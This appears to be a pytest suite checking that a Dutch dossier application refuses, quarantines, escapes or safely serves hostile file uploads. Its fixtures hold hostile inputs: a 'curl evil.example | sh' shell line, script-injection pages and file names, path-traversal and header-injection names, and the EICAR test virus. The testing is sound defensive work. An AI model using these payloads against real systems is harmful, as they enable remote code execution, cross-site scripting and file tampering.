"""G: files that are not what they say, viruses, scanners that misbehave, and names that do harm."""

from __future__ import annotations

import io
import json
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from hashlib import sha256
from pathlib import Path
from threading import Event
from uuid import UUID

import pypdf
import pytest
from flask import Flask
from sqlalchemy import select, text
from sqlalchemy.exc import IntegrityError
from werkzeug.test import TestResponse

from ethiek.config import Settings
from ethiek.domain.attachments import LARGEST_FILE, Scan
from ethiek.domain.workflow import Status
from ethiek.incoming import files_of, quarantine_of
from ethiek.models.attachments import Attachment
from ethiek.models.audit import AuditEvent
from ethiek.models.dossiers import Dossier, Snapshot
from ethiek.models.jobs import Job, JobStatus
from ethiek.reports.render import render
from ethiek.services import jobs, reporting
from ethiek.work import handlers
from ethiek.worker import work_once
from tests import builders, clamd, files
from tests.builders import World
from tests.conftest import only_sqlite
from tests.pages.conftest import Browser, Writing

pytestmark = only_sqlite
SignIn = Callable[[str], Browser]
Make = Callable[..., UUID]


@pytest.fixture(scope="module")
def scanner() -> Iterator[str]:
    with tempfile.TemporaryDirectory(prefix="clamd-") as folder, clamd.running_clamd(Path(folder)) as found:
        yield found[0]


@pytest.fixture
def settings(settings: Settings, scanner: str) -> Settings:
    return replace(settings, scanner=scanner)


@pytest.fixture
def noor(world: World, sign_in: SignIn) -> Browser:
    assert world.ids
    return sign_in("Noor")


@pytest.fixture
def dossier_id(dossier_in: Make) -> UUID:
    return dossier_in(Status.DRAFT)


def send(
    browser: Browser, dossier_id: UUID, data: bytes, name: str, token: str = "token-0001"
) -> TestResponse:
    fields = {
        "csrf_token": browser.token,
        "description": "Een bijlage.",
        "place": "geheel",
        "token": token,
    }
    body, content_type = files.form_with(fields, data, name)
    return browser.client.post(f"/dossiers/{dossier_id}/bijlagen", data=body, content_type=content_type)


def work(app: Flask) -> None:
    while work_once(app, handlers(app), Event()):
        pass


def rows(writing: Writing) -> list[Attachment]:
    with writing() as session:
        found = list(session.scalars(select(Attachment).order_by(Attachment.id)))
        session.expunge_all()
        return found


def events(writing: Writing) -> list[tuple[str, str]]:
    wanted = ("attachments.add", "add_attachment", "scan_attachment", "read_attachment")
    with writing() as session:
        query = select(AuditEvent.action, AuditEvent.result).order_by(AuditEvent.seq)
        return [(row.action, row.result) for row in session.execute(query) if row.action in wanted]


def on_disk(settings: Settings) -> list[str]:
    return sorted(path.name for path in settings.attachment_folder.rglob("*") if path.is_file())


HOSTILE = {
    "page": b"<!DOCTYPE html><script>alert(1)</script>",
    "picture with script": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
    "program": b"MZ\x90\x00" + bytes(200),
    "binary": b"\x7fELF\x02\x01\x01" + bytes(200),
    "archive": files.packed({"evil.exe": b"MZ"}),
    "page behind a mark": b"\xef\xbb\xbf\n<html><body onload=alert(1)>",
}


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("name", ["plan.pdf", "foto.png"])
def test_g1_page_script_or_program_under_another_name_is_refused(
    noor: Browser, dossier_id: UUID, writing: Writing, settings: Settings, data: bytes, name: str
) -> None:
    answer = send(noor, dossier_id, data, name)
    assert (answer.status_code, "is not accepted" in answer.text) == (422, True)
    assert (rows(writing), on_disk(settings)) == ([], [])
    assert events(writing) == [("attachments.add", "refused")]


def test_g2_test_virus_is_in_quarantine_and_told_to_the_team(
    app: Flask, noor: Browser, dossier_id: UUID, writing: Writing, settings: Settings
) -> None:
    inside = files.packed({"mimetype": "application/vnd.oasis.opendocument.text", "Pictures/1": files.EICAR})
    sums = [sha256(data).hexdigest() for data in (files.EICAR, inside)]
    send(noor, dossier_id, files.EICAR, "eicar.txt", "token-0001")
    send(noor, dossier_id, inside, "brief.odt", "token-0002")
    work(app)
    found = rows(writing)
    assert [(row.scan, row.virus) for row in found] == [
        (Scan.INFECTED, "Eicar-Test-Signature.UNOFFICIAL")
    ] * 2
    assert [noor.get(f"/dossiers/{dossier_id}/bijlagen/{row.id}").status_code for row in found] == [404, 404]
    assert (files_of(settings).names(), quarantine_of(settings).names()) == ([], sorted(sums))
    assert "A virus was found in 2 files" in noor.get(f"/dossiers/{dossier_id}").text
    assert events(writing).count(("scan_attachment", "done")) == 2
    with writing() as session:
        body = session.scalars(select(AuditEvent.body).where(AuditEvent.action == "scan_attachment")).first()
    assert body is not None
    assert json.loads(body)["details"] | {"dossier": ""} == {
        "dossier": "",
        "found": "infected",
        "sha256": sums[0],
        "virus": "Eicar-Test-Signature.UNOFFICIAL",
    }


def test_g2_file_that_was_interrupted_on_its_way_to_quarantine_gets_there(
    app: Flask, noor: Browser, dossier_id: UUID, writing: Writing, settings: Settings
) -> None:
    send(noor, dossier_id, files.EICAR, "eicar.txt")
    [row] = rows(writing)
    files_of(settings).move_to(quarantine_of(settings), row.sha256)
    work(app)
    assert [row.scan for row in rows(writing)] == [Scan.INFECTED]
    assert quarantine_of(settings).names() == [row.sha256]


@pytest.mark.parametrize(
    "data", [files.TXT, b"%PDF-1.7\n" + bytes(clamd.STREAM_LIMIT)], ids=["away", "over limit"]
)
def test_g3_file_that_could_not_be_scanned_is_not_given_out_and_tried_again(
    app: Flask, noor: Browser, dossier_id: UUID, writing: Writing, settings: Settings, data: bytes
) -> None:
    name = "brief.txt" if data == files.TXT else "groot.pdf"
    if data == files.TXT:
        app.extensions["settings"] = replace(settings, scanner=str(settings.instance / "nobody.ctl"))
    send(noor, dossier_id, data, name)
    work(app)
    [row] = rows(writing)
    url = f"/dossiers/{dossier_id}/bijlagen/{row.id}"
    assert (row.scan, noor.get(url).status_code) == (Scan.NOT_SCANNED, 404)
    assert "Not scanned yet" in noor.get(f"/dossiers/{dossier_id}/bijlagen").text
    with writing() as session:
        job = session.scalars(select(Job)).one()
        assert (job.status, job.attempts) == (JobStatus.WAITING, 1)
        assert job.last_error == ("ScanError: away" if data == files.TXT else "ScanError: over_limit")
        jobs.try_now(session, job.id)
    app.extensions["settings"] = settings
    work(app)
    expected = (Scan.CLEAN, 200) if data == files.TXT else (Scan.NOT_SCANNED, 404)
    assert (rows(writing)[0].scan, noor.get(url).status_code) == expected


def test_g3_file_that_changed_on_disk_is_not_scanned_nor_given_out(
    app: Flask, noor: Browser, dossier_id: UUID, writing: Writing, settings: Settings
) -> None:
    send(noor, dossier_id, files.TXT, "brief.txt")
    [row] = rows(writing)
    (settings.attachment_folder / row.sha256).write_bytes(b"iets anders")
    work(app)
    assert [row.scan for row in rows(writing)] == [Scan.NOT_SCANNED]


@pytest.mark.parametrize(
    ("size", "status", "message"),
    [
        (0, 422, "This file is empty."),
        (LARGEST_FILE + 1, 422, "This file is too large: at most 25 MB."),
        (26 * 1024 * 1024, 422, "This file is too large: at most 25 MB."),
        (41_000_000, 413, "Send less text or a smaller file at a time."),
    ],
)
def test_g4_empty_or_too_large_is_refused_and_the_space_given_back(
    noor: Browser,
    dossier_id: UUID,
    writing: Writing,
    settings: Settings,
    size: int,
    status: int,
    message: str,
) -> None:
    answer = send(noor, dossier_id, files.PDF[:size].ljust(size, b" "), "groot.pdf")
    assert (answer.status_code, message in answer.text) == (status, True)
    assert (rows(writing), on_disk(settings)) == ([], [])
    assert events(writing) == [("attachments.add", "refused")]


def test_g4_largest_file_is_accepted(
    noor: Browser, dossier_id: UUID, writing: Writing, settings: Settings
) -> None:
    data = files.PDF.ljust(LARGEST_FILE, b" ")
    assert send(noor, dossier_id, data, "groot.pdf").status_code == 303
    assert ([row.size for row in rows(writing)], on_disk(settings)) == (
        [LARGEST_FILE],
        [sha256(data).hexdigest()],
    )


NAMES = {
    "../../../etc/cron.d/plan.txt": "plan.txt",
    r"C:\Windows\System32\plan.txt": "plan.txt",
    "plan\u202etxt.exe.txt": "plantxt.exe.txt",
    f"{'x' * 300}.txt": f"{'x' * 116}.txt",
    "<img src=x onerror=alert(1)>.txt": "_img src=x onerror=alert(1)_.txt",
    "é'plan';.txt": "é'plan';.txt",
}


@pytest.mark.parametrize(("sent", "kept"), NAMES.items())
def test_g5_hostile_name_is_stored_under_ours_and_shown_escaped(
    app: Flask,
    noor: Browser,
    dossier_id: UUID,
    writing: Writing,
    settings: Settings,
    sent: str,
    kept: str,
) -> None:
    assert send(noor, dossier_id, files.TXT, sent).status_code == 303
    work(app)
    [row] = rows(writing)
    assert (row.name, on_disk(settings)) == (kept, [sha256(files.TXT).hexdigest()])
    page = noor.get(f"/dossiers/{dossier_id}/bijlagen").text
    assert kept.replace("&", "&amp;").replace("'", "&#39;") in page
    assert "<img src=x" not in page
    header = noor.get(f"/dossiers/{dossier_id}/bijlagen/{row.id}").headers["Content-Disposition"]
    assert header.startswith('attachment; filename="')
    assert header.isascii()
    assert not set(header) & set("\r\n\0/\\<>")


def test_g5_line_breaks_quotes_and_nul_in_a_name_make_no_header(
    noor: Browser, dossier_id: UUID, writing: Writing
) -> None:
    answer = send(noor, dossier_id, files.TXT, 'a"b%0d%0aSet-Cookie: c=1\x00.txt')
    assert answer.status_code == 303
    assert [row.name for row in rows(writing)] == ["a_b%0d%0aSet-Cookie_ c=1.txt"]


def test_g6_download_is_an_attachment_that_no_browser_runs(
    app: Flask, noor: Browser, sign_in: SignIn, dossier_id: UUID, writing: Writing, world: World
) -> None:
    send(noor, dossier_id, files.PDF, "Plan België.pdf")
    work(app)
    with writing() as session:
        builders.advance(session, world, dossier_id, Status.IN_REVIEW)
    [row] = rows(writing)
    of_team, of_round = (
        f"/dossiers/{dossier_id}/bijlagen/{row.id}",
        f"/dossiers/{dossier_id}/rondes/1/bijlagen/1",
    )
    for browser, url in ((noor, of_team), (noor, of_round), (sign_in("Mila"), of_round)):
        answer = browser.get(url)
        names = ("Content-Type", "Content-Disposition", "Content-Security-Policy", "X-Content-Type-Options")
        assert [answer.headers[name] for name in (*names, "Cache-Control")] == [
            "application/pdf",
            "attachment; filename=\"Plan Belgi_.pdf\"; filename*=UTF-8''Plan%20Belgi%C3%AB.pdf",
            "default-src 'none'; sandbox",
            "nosniff",
            "no-store",
        ]
        assert answer.data == files.PDF
    for who in ("Omar", "Daan", "Ada", "Aisha", "Vera"):
        outsider = sign_in(who)
        assert [outsider.get(url).status_code for url in (of_team, of_round)] == [404, 404], who
    for path in (row.sha256, f"attachments/{row.sha256}", f"..%2fattachments%2f{row.sha256}"):
        assert noor.get(f"/static/{path}").status_code == 404


def test_g6_file_of_another_dossier_is_not_found_under_ours(
    app: Flask, noor: Browser, dossier_in: Make, dossier_id: UUID, writing: Writing
) -> None:
    send(noor, dossier_id, files.TXT, "brief.txt")
    work(app)
    [row] = rows(writing)
    other = dossier_in(Status.DRAFT)
    assert noor.get(f"/dossiers/{other}/bijlagen/{row.id}").status_code == 404
    assert noor.post(f"/dossiers/{other}/bijlagen/{row.id}/verwijderen", {"revision": 1}).status_code in {
        404,
        409,
    }
    assert [row.removed_at for row in rows(writing)] == [None]


def test_g7_after_submission_nothing_changes_and_the_sealed_document_names_the_checksum(
    app: Flask, noor: Browser, dossier_id: UUID, writing: Writing, world: World
) -> None:
    send(noor, dossier_id, files.PDF, "plan.pdf")
    work(app)
    with writing() as session:
        builders.advance(session, world, dossier_id, Status.AWAITING_SIGNATURE)
        revision = session.get_one(Dossier, dossier_id).revision
        advice_id = builders.present_advice(session, dossier_id).id
        source = reporting.source_of(session, advice_id, test_seal=True)
    [row] = rows(writing)
    url = f"/dossiers/{dossier_id}/bijlagen"
    assert noor.post(f"{url}/{row.id}/verwijderen", {"revision": revision}).status_code == 409
    assert send(noor, dossier_id, files.TXT, "later.txt", "token-0002").status_code == 409
    for statement in (
        "UPDATE attachment SET removed_at = added_at, removed_by_id = added_by_id",
        "UPDATE attachment SET sha256 = 'x'",
        "DELETE FROM snapshot_attachment",
    ):
        with pytest.raises(IntegrityError), writing() as session:
            session.execute(text(statement))
    with writing() as session:
        content = json.loads(session.scalars(select(Snapshot.content)).one())
    digest = sha256(files.PDF).hexdigest()
    assert [one["sha256"] for one in content["attachments"]] == [digest]
    printed = "".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(render(source))).pages)
    assert digest in printed


def test_g7_file_that_was_replaced_on_disk_is_not_given_out(
    app: Flask, noor: Browser, dossier_id: UUID, writing: Writing, settings: Settings, world: World
) -> None:
    send(noor, dossier_id, files.PDF, "plan.pdf")
    work(app)
    with writing() as session:
        builders.hand_in(session, world, dossier_id)
    (settings.attachment_folder / sha256(files.PDF).hexdigest()).write_bytes(b"%PDF-1.7 iets anders")
    answer = noor.get(f"/dossiers/{dossier_id}/rondes/1/bijlagen/1")
    assert (answer.status_code, b"iets anders" in answer.data) == (500, False)
